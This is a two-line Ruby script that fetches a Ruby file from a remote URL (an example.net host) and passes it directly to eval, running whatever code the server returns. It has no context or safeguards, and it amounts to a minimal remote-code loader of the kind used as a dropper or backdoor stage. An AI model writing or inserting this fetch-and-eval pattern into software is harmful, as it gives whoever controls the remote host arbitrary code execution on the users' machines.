require 'net/http'
eval(Net::HTTP.get(URI('https://a.example.net/t.rb')))
